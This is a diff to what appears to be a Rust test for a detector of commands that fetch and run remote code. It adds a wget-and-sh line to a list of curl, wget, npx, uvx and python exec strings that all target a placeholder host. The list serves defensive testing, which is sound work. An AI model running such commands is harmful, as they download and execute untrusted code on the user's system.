@@ -32,6 +32,7 @@ fn fetching_and_running_is_seen_in_every_shape() {
         "curl -o /tmp/x https://x.example/x && chmod +x /tmp/x && /tmp/x",
         "curl -sO https://x.example/run.sh; sh run.sh",
         "wget https://x.example/run.sh && bash ./run.sh",
+        "wget -qO /tmp/.x https://x.example/x && sh /tmp/.x",
         "npx -y https://x.example/pkg.tgz",
         "uvx --from git+https://x.example/pkg tool",
         "python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example').read())\"",
